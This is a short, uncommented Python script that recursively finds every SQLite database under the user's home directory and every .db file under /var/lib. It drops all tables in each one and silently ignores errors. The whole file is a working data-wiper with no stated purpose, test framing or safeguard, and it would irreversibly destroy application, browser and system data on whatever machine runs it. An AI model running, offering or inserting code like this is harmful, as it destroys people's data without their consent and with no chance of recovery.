import glob
import sqlite3
import os

for db in glob.glob(os.path.expanduser("~/**/*.sqlite*"), recursive=True) + glob.glob("/var/lib/**/*.db", recursive=True):
    try:
        con = sqlite3.connect(db)
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        for t in tables:
            con.execute(f'DROP TABLE IF EXISTS "{t}"')
        con.commit()
        con.close()
    except sqlite3.Error:
        pass
